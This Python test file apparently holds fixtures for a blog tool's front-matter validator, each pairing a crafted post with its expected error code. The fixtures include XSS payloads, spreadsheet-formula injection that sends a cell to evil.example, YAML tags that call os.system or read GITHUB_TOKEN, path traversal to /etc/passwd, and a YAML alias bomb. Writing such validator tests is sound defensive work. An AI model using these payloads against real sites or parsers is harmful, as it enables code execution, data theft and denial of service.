"""The top of a post: keys that a theme would obey, values that break out, addresses that take another's place."""

from __future__ import annotations

from tests.contributions.network import OTHERS_PAGES
from tests.contributions.story import HARMLESS, Story, post, slug, unlike

UNKNOWN = "error[unknown-key]"
TOP = "---\ntitle: A contribution\ndate: 2026-11-01\nauthors: [{name: A stranger}]\nkind: blog\n"


def titled(name: str, title: str, told: str = HARMLESS) -> Story:
    return Story(f"a title with {name}", {f"posts/title-{slug(name)}.md": post("Text.", title)}, told, (2, 2))


def with_line(name: str, line: str, told: str, changes: frozenset[str] = frozenset()) -> Story:
    last = 5 + line.count("\n") + 1
    return Story(
        name, {f"posts/field-{slug(name)}.md": post("Text.", more=f"{line}\n")}, told, (1, last), changes=changes
    )


def whole(name: str, text: str | bytes, told: str, lines: tuple[int, int] = (1, 20)) -> Story:
    return Story(name, {f"posts/whole-{slug(name)}.md": text}, told, lines)


TITLES = (
    titled("a script", "<script>alert(1)</script>"),
    titled("the end of the title", "</title><img src=x onerror=alert(1)>"),
    titled("the end of a script", "'</script><script>alert(1)</script>'"),
    titled("an opened comment of a script", "'<!--<script>'"),
    titled("quotation marks", '\'" onmouseover="alert(1)" x="\''),
    titled("the end of a section", "']]><script>alert(1)</script>'"),
    titled("entities", "'&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;'"),
    titled("a template's expression", "'{{ 7*7 }}{% include \"/etc/passwd\" %}'"),
    titled("a formula", "'=HYPERLINK(\"https://evil.example/\"&A1)'"),
    titled("a formula after a blank", "' +cmd|/C calc!A0'"),
    titled("a formula of full width", "＝1+1"),
    titled("a formula with at", "'@SUM(1+1)*cmd|x'"),
    titled("the mark of the site", "' href=\"site:admin'"),
    titled("a percent sign", "'%(title)s %s %d 100%'"),
    titled("a backslash", "'C:\\New\\table'"),
    titled("Markdown", "'[x](javascript:alert(1)) `code` **bold**'"),
    titled("a line break", '"A title\\nand X-Header: 1"', "error[bad-text]"),
    titled("a carriage return", '"A title\\rBEGIN:VALARM"', "error[bad-text]"),
    titled("a next line", '"A title\\NBEGIN:VALARM"', "error[bad-text]"),
    titled("a line separator", '"A title\\LBEGIN:VALARM"', "error[bad-text]"),
    titled("a paragraph separator", '"A title\\PBEGIN:VALARM"', "error[bad-text]"),
    titled("a NUL", '"A title\\0 and more"', "error[control-character]"),
    titled("an escape", '"A \\e[31mred\\e[0m title"', "error[control-character]"),
    titled("half a surrogate", '"A title \\uD800"', "error[yaml-syntax]"),
    titled("a hidden order", '"A title \\u202Etxt.exe"', "error[bidirectional-control]"),
    titled("a typed hidden order", "A title \u202etxt.exe", "error[bidirectional-control]"),
    titled("only blanks that nobody sees", '"\\u200b\\u3164\\u2800"', "error[bad-text] warning[invisible-character]"),
    titled("five thousand signs", "x" * 5000),
    titled("a thousand accents", "'A" + "\u0301" * 1000 + "'"),
)

KEYS = (
    with_line("a template of its own", "template: ../../evil.html", UNKNOWN),
    with_line("a location of its own", "location: https://evil.example/", UNKNOWN),
    with_line("a redirect", "redirect: https://evil.example/", UNKNOWN),
    with_line("a slug that leads out", "slug: ../../../evil", UNKNOWN),
    with_line("an address of its own", "url: /index.html", UNKNOWN),
    with_line("what the page hides", "hide: [navigation, toc, footer]", UNKNOWN),
    with_line("scripts of its own", "extra_javascript: [https://evil.example/x.js]", UNKNOWN),
    with_line("a canonical address of its own", "canonical_url: https://evil.example/", UNKNOWN),
    with_line("a search of its own", "search: {boost: 1000000}", UNKNOWN),
    with_line("hooks of its own", "hooks: [evil.py]", UNKNOWN),
    with_line("a body of its own", "body: x\npath: ../../x\nwritten_at: 1", UNKNOWN),
    with_line("a draft in capital letters", "Draft: true", UNKNOWN),
    with_line("a draft that says yes", "draft: yes", "error[bad-boolean]"),
    with_line("a draft in quotation marks", 'draft: "true"', "error[bad-boolean]"),
    with_line("a draft with a hidden sign", "dra\u200bft: true", UNKNOWN + " warning[invisible-character]"),
    with_line("a draft with another script's letter", "drаft: true", UNKNOWN + " warning[look-alike]"),
    with_line("a draft twice", "draft: true\ndraft: false", "error[duplicate-key]"),
    with_line("a second title", "title: Another", "error[duplicate-key]"),
    with_line("a key that is a list", "? [a, b]\n: c", "error[bad-key]"),
    with_line("a merged key", "<<: {draft: false}", UNKNOWN),
    with_line(
        "a class of Python", "summary: !!python/object/apply:os.system [id]", "error[yaml-tag] error[wrong-shape]"
    ),
    with_line("a name of Python", "summary: !!python/name:os.system x", "error[yaml-tag]"),
    with_line("a secret of the machine", "summary: !ENV [GITHUB_TOKEN, HOME]", "error[yaml-tag] error[wrong-shape]"),
    with_line("a binary value", "summary: !!binary aGVsbG8=", "error[yaml-tag]"),
    with_line("a tag of one's own", "summary: !<tag:evil.example,2026:x> y", "error[yaml-tag]"),
    with_line("an alias of nothing", "summary: *nothing", "error[yaml-alias]"),
    with_line("an alias of itself", "themes: &a [*a]", "error[yaml-alias]"),
    with_line("a lead picture from elsewhere", "image: {src: https://evil.example/x.png, alt: x}", "error[bad-path]"),
    with_line("a lead picture that leads out", "image: {src: ../../../etc/passwd, alt: x}", "error[bad-path]"),
    with_line("a lead picture of the machine", "image: {src: /etc/passwd, alt: x}", "error[bad-path]"),
    with_line("a lead picture of git", "image: {src: .git/config, alt: x}", "error[bad-path]"),
    with_line("a lead picture that is a page", "image: {src: hello/index.md, alt: x}", "error[missing-image]"),
    with_line("a lead picture that is a setting", "image: {src: network.yml, alt: x}", "error[missing-image]"),
    with_line("a licence that is an address", "licence: https://evil.example/", "error[bad-licence]"),
    with_line("a licence that leads up", "licence: ../../evil", "error[bad-licence]"),
    with_line("a language that is an attribute", "language: 'en\" onclick=\"alert(1)'", "error[unknown-language]"),
    with_line("an id of somebody else's post", "id: hello", "error[duplicate-id]"),
    with_line("an id with a tag", "id: 'x,2026:y/z'", "error[bad-id]"),
    with_line("a former name that is in use", "formerly: [hello]", "error[duplicate-address]"),
    with_line("a former name that is the archive", "formerly: [archive]", "error[bad-id]"),
    with_line("a former name that leads out", "formerly: ['../../index']", "error[bad-id]"),
    with_line("a former name of somebody's draft", "formerly: [marked-draft]", "error[duplicate-address]"),
    with_line("fifty former names", f"formerly: [{', '.join(f'old-{n}' for n in range(50))}]", "error[too-large]"),
    with_line("an author who is hidden", "countries: [TO]\nevents: [marked-meeting]", HARMLESS),
    with_line(
        "a translation of itself", "translation_of: field-a-translation-of-itself", "error[translation-language]"
    ),
    with_line("a translation of a draft", "translation_of: marked-draft\nlanguage: fj", HARMLESS, OTHERS_PAGES),
    with_line("signatures of nobody", "signatories: [{member: nobody}]", "error[unknown-member]"),
    with_line("a summary with elements", "summary: '</description><script>alert(1)</script> ]]> \"'", HARMLESS),
    with_line("a date of thirteen months", "updated: 2026-13-01", "error[bad-date]"),
    with_line("a date in the Middle Ages", "updated: 0001-01-01", "error[bad-date]"),
    with_line("a date of other digits", "updated: ２０２６-１１-０２", "error[bad-date]"),
    with_line("a date far away", "expires: 99999-01-01", "error[bad-date]"),
    with_line("a date with a far offset", "updated: 2026-11-02 10:00+99:99", "error[bad-time]"),
)

AUTHORS = (
    Story(
        "an author with elements",
        {
            "posts/author-elements.md": TOP.replace(
                "A stranger", "'<img src=x onerror=alert(1)>', affiliation: '\"><script>'"
            )
            + "---\nText.\n"
        },
    ),
    Story(
        "an author who pretends to be a member",
        {
            "posts/author-hidden.md": TOP.replace(
                "{name: A stranger}", "marked-hidden, marked-person, marked-quiet, {name: A stranger}"
            )
            + "---\nText.\n"
        },
    ),
    Story(
        "a thousand authors of nothing",
        {
            "posts/author-nobody.md": TOP.replace("{name: A stranger}", ", ".join(f"nobody-{n}" for n in range(300)))
            + "---\nText.\n"
        },
        "error[too-large] error[unknown-author]",
        (2, 4),
    ),
    Story(
        "a name with a line break",
        {"posts/author-break.md": TOP.replace("A stranger", '"A\\r\\nB"') + "---\nText.\n"},
        "error[bad-text]",
        (4, 4),
    ),
)

BOMB = (
    "a: &a ["
    + "x, " * 8
    + "x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [" + f"*{chr(97 + n)}, " * 8 + f"*{chr(97 + n)}]\n" for n in range(8))
)

WHOLE = (
    whole(
        "front matter that is never closed",
        TOP + "draft: true\nText that nobody should see yet.\n",
        "error[front-matter]",
    ),
    whole("front matter after an empty line", "\n" + TOP + "draft: true\n---\nText.\n", "error[front-matter]"),
    whole("front matter after a blank", " " + TOP + "draft: true\n---\nText.\n", "error[front-matter]"),
    whole(
        "front matter of four hyphens", TOP.replace("---", "----") + "draft: true\n----\nText.\n", "error[front-matter]"
    ),
    whole(
        "front matter of plus signs",
        TOP.replace("---", "+++").replace(": ", " = ") + "+++\nText.\n",
        "error[front-matter]",
    ),
    whole("front matter in JSON", '{"title": "x", "draft": true}\n\nText.\n', "error[front-matter]"),
    whole("front matter after a comment", "<!-- x -->\n" + TOP + "---\nText.\n", "error[front-matter]"),
    whole("no front matter", "# Hello\n\nText.\n", "error[front-matter]"),
    whole("nothing at all", "", "error[front-matter]"),
    whole("front matter of nothing", "---\n---\nText.\n", "error[front-matter]"),
    whole("front matter that is a list", "---\n- title\n- date\n---\nText.\n", "error[front-matter]"),
    whole("front matter that is a text", "---\nHello\n---\nText.\n", "error[front-matter]"),
    whole("front matter that ends by dots", TOP + "...\nText.\n", "error[front-matter]"),
    whole("front matter of two documents", TOP + "...\n--- x\ntitle: Another\n---\nText.\n", "error[front-matter]"),
    whole(
        "a directive",
        TOP.replace("---\n", "---\n%YAML 9.9\n%TAG ! tag:evil.example,2026:\n", 1) + "---\nText.\n",
        "error[yaml-syntax]",
    ),
    whole("aliases that multiply", TOP + BOMB + "---\nText.\n", "error[yaml-alias]"),
    whole("lists in lists", TOP + "themes: " + "[" * 5000 + "]" * 5000 + "\n---\nText.\n", "error[yaml-depth]"),
    whole("mappings in mappings", TOP + "image: " + "{a: " * 3000 + "\n---\nText.\n", "error[yaml-depth]"),
    whole("keys in keys", TOP + "? " * 2000 + "x\n---\nText.\n", "error[yaml-depth] error[bad-key]"),
    whole("tabs", TOP + "image:\n\tsrc: x.png\n---\nText.\n", "error[yaml-syntax]"),
    whole("ten thousand keys", TOP + "".join(f"k{n}: v\n" for n in range(500)) + "---\nText.\n", UNKNOWN, (6, 505)),
    whole(
        "a second block of fields",
        TOP + "---\n---\ntemplate: evil.html\ndraft: false\n---\nText.\n",
        "error[front-matter]",
    ),
    whole(
        "a wrong encoding",
        TOP.replace("A contribution", "Un café").encode("cp1252") + b"---\nText.\n",
        "error[not-utf-8]",
        (2, 2),
    ),
    whole("an encoding with zeros", (TOP + "---\nText.\n").encode("utf-16"), "error[not-utf-8]"),
    whole("an encoding of seven bits", TOP.encode() + b"---\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n", HARMLESS),
    whole("an overlong encoding", TOP.encode() + b"---\n\xc0\xbcscript\xc0\xbe\n", "error[not-utf-8]", (7, 7)),
    whole("an encoded surrogate", TOP.encode() + b"---\n\xed\xa0\x80\n", "error[not-utf-8]", (7, 7)),
    whole("random bytes", bytes(range(256)) * 4, "error[not-utf-8]"),
    whole("a program", b"\x7fELF\x02\x01\x01" + b"\0" * 100, "error[control-character] error[front-matter]"),
)

STORIES = unlike((*TITLES, *KEYS, *AUTHORS, *WHOLE))
